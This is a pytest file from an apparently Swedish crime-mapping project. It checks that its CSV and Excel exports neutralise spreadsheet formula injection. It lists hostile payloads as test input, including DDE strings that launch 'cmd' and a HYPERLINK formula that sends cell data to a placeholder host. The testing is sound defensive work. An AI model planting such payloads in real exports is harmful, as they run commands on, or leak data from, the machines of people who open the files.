"""Every CSV and Excel file the project writes keeps hostile text from running as a formula.

Data is built with a formula start in every text column; each export is read back as a spreadsheet
program would, and no cell may start a formula (text that is exactly a number is a number, and
numeric cells stay numbers)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import Engine, update

from geo.commands.cli import main
from geo.commands.presence import proposal_csv
from geo.io.ingest import ImportOptions, import_incidents
from geo.io.spreadsheet import FORMULA_STARTS, csv_bytes, csv_rows, neutralise, xlsx_bytes
from geo.presence.log import create_entry, list_entries, week_plan_csv
from geo.store.database import active_layer
from geo.store.schema import areas

HOSTILE = [
    '=HYPERLINK("https://example.invalid/?q="&A1;"klicka")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
"""One payload per character a spreadsheet treats as a formula start (OWASP's list)."""

CENTRE = (347000, 6309800)  # Falkenberg centrum in the built-in layer
TODAY = dt.date(2026, 1, 15)


def _runs_as_formula(cell: str) -> bool:
    """What Excel/LibreOffice would evaluate: a text cell starting a formula that is not a number."""
    return cell.startswith(FORMULA_STARTS) and neutralise(cell) != cell


def _cells(data: bytes, *, sep: str = ";") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def _assert_safe(rows: list[list[str]], expected: list[str]) -> None:
    flat = [cell for row in rows for cell in row]
    assert flat, "the export is empty"
    dangerous = [cell for cell in flat if _runs_as_formula(cell)]
    assert dangerous == []
    for payload in expected:  # the text is kept, shown with a leading apostrophe
        assert "'" + payload in flat, payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),
        ("-5+A1", "'-5+A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),  # text that is exactly a number: a spreadsheet reads the number -5
        ("-1,5", "-1,5"),
        ("+46", "+46"),
        ("-", "'-"),
        ("Glommen", "Glommen"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),  # a numeric cell is never touched
        (-1.5, -1.5),
        (None, None),
    ],
    ids=repr,
)
def test_neutralise_changes_only_text_that_would_run(value: object, written: object) -> None:
    assert neutralise(value) == written


def test_negative_numbers_stay_numbers_and_text_stays_text() -> None:
    table = pd.DataFrame(
        {"namn": ["=1+1", "-5", "Glommen"], "antal": [-5, 3, 0], "andel": [-0.5, 0.25, 1.0]}
    )
    rows = _cells(csv_bytes(table))
    assert rows == [
        ["namn", "antal", "andel"],
        ["'=1+1", "-5", "-0.5"],
        ["-5", "3", "0.25"],
        ["Glommen", "0", "1.0"],
    ]
    back = pd.read_csv(io.BytesIO(csv_bytes(table)), sep=";", encoding="utf-8-sig")
    assert back["antal"].tolist() == [-5, 3, 0]  # still numbers when read back


def test_headers_are_neutralised_too() -> None:
    rows = _cells(csv_rows(["=kolumn", "ok"], [["-3", -3]]))
    assert rows == [["'=kolumn", "ok"], ["-3", "-3"]]


def test_workbook_has_no_formula_cells() -> None:
    table = pd.DataFrame({"text": HOSTILE, "tal": range(-3, len(HOSTILE) - 3)})
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Tabell": table})))
    sheet = workbook["Tabell"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if _runs_as_formula(t)] == []
    written = [sheet.cell(row=i + 2, column=1).value for i in range(6)]
    assert written == ["'" + h.replace("\r", "\n") for h in HOSTILE]  # XML keeps no bare CR
    assert [sheet.cell(row=i + 2, column=2).value for i in range(6)] == list(range(-3, 3))


def test_import_templates_hold_no_formula() -> None:
    from geo.io.columns import template_csv, template_xlsx

    _assert_safe(_cells(template_csv()), [])
    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx()))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert not (isinstance(cell.value, str) and _runs_as_formula(cell.value))


# --- The police's week plan and proposal -------------------------------------------------------


@pytest.fixture
def hostile_plan(store: Engine) -> Engine:
    _info, layer = active_layer(store)
    codes = set(layer["area_code"])
    start = dt.datetime(2026, 11, 2, 18, tzinfo=dt.UTC)
    for number, payload in enumerate(HOSTILE):
        create_entry(
            store,
            {"area_code": "1382R001", "planned_start": start + dt.timedelta(hours=number),
             "planned_end": start + dt.timedelta(hours=number, minutes=30),
             "unit": payload.strip()[:60] or "x", "kind": "bilpatrull", "purpose": payload},
            who="test", area_codes=codes,
        )  # fmt: skip
    with store.begin() as connection:
        connection.execute(
            update(areas).where(areas.c.area_code == "1382R001").values(name=HOSTILE[0])
        )
    return store


def test_week_plan_csv_from_hostile_units_purposes_and_area_names(hostile_plan: Engine) -> None:
    entries = list_entries(hostile_plan)
    names = {"1382R001": HOSTILE[0]}
    rows = _cells(week_plan_csv(entries, names))
    _assert_safe(rows, HOSTILE)  # purposes
    units = [row[4] for row in rows[1:]]
    assert units == ["'" + p.strip()[:60] for p in HOSTILE]  # the unit column is neutralised too
    assert [row[0] for row in rows[1:]] == [str(i) for i in entries["id"]]  # ids stay numbers


def test_presence_export_command_writes_a_safe_csv(
    hostile_plan: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LAGESBILD_DATABASE_URL", str(hostile_plan.url))
    out = tmp_path / "plan.csv"
    assert (
        main(["presence", "export", "--week", "2026-W45", "--format", "csv", "--out", str(out)])
        == 0
    )
    rows = _cells(out.read_bytes())
    assert len(rows) == 1 + len(HOSTILE)
    _assert_safe(rows, HOSTILE)
    assert {row[1] for row in rows[1:]} == {"'" + HOSTILE[0]}  # the area name from the layer


def test_proposal_csv_neutralises_every_text_column() -> None:
    table = pd.DataFrame(
        {"Område": HOSTILE, "Enhet": list(reversed(HOSTILE)), "Minuter": [-15, 0, 15, 30, 45, 60]}
    )
    rows = _cells(proposal_csv(table))
    _assert_safe(rows, HOSTILE)
    assert [row[2] for row in rows[1:]] == ["-15", "0", "15", "30", "45", "60"]


# --- The public site and the GIS export ---------------------------------------------------------


def _incidents(engine: Engine, folder: Path) -> None:
    rows = [
        f"C{month}-{k};2025-{month:02d}-{k + 2:02d}T12:00:00+01:00;Stöld;{CENTRE[0] + k};{CENTRE[1]};"
        for month in range(1, 13)
        for k in range(12)
    ]
    path = folder / "handelser.csv"
    path.write_text("id;tidpunkt;typ;x;y;beskrivning\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = import_incidents(engine, path, ImportOptions(imported_by="test"))
    assert report.imported, report.text()


def test_public_site_csv_files_with_hostile_area_names(store: Engine, tmp_path: Path) -> None:
    from geo.public.publish import publish

    _incidents(store, tmp_path)
    _info, layer = active_layer(store)
    hostile_names = {
        code: f"{HOSTILE[i % len(HOSTILE)]} {i}"
        for i, code in enumerate(sorted(layer["area_code"]))
    }
    with store.begin() as connection:
        for code, name in hostile_names.items():
            connection.execute(update(areas).where(areas.c.area_code == code).values(name=name))
    site = tmp_path / "site"
    publish(store, site, months=12, today=TODAY)
    for name in ("omraden.csv", "handelser_per_manad.csv"):
        rows = _cells((site / "data" / name).read_bytes())
        _assert_safe(rows, list(hostile_names.values()))
    areas_rows = _cells((site / "data" / "omraden.csv").read_bytes())
    assert all(not _runs_as_formula(cell) for cell in areas_rows[0])


def test_hotspot_cells_csv_with_a_hostile_region_name(store: Engine, tmp_path: Path) -> None:
    from geo.analysis.hotspots import hotspots_from_store, write_cells

    _incidents(store, tmp_path)
    with store.begin() as connection:
        connection.execute(
            update(areas).where(areas.c.area_code == "1382R001").values(name=HOSTILE[1])
        )
    start = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    result, _n = hotspots_from_store(
        store,
        start=start,
        end=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        area_codes=("1382R001",),
        cell_size=100,
    )
    out = tmp_path / "cells.csv"
    write_cells(result, str(out))
    rows = _cells(out.read_bytes(), sep=",")
    _assert_safe(rows, [HOSTILE[1]])
    assert pd.read_csv(out)["gi_z"].dtype.kind == "f"  # numbers stay numbers for QGIS
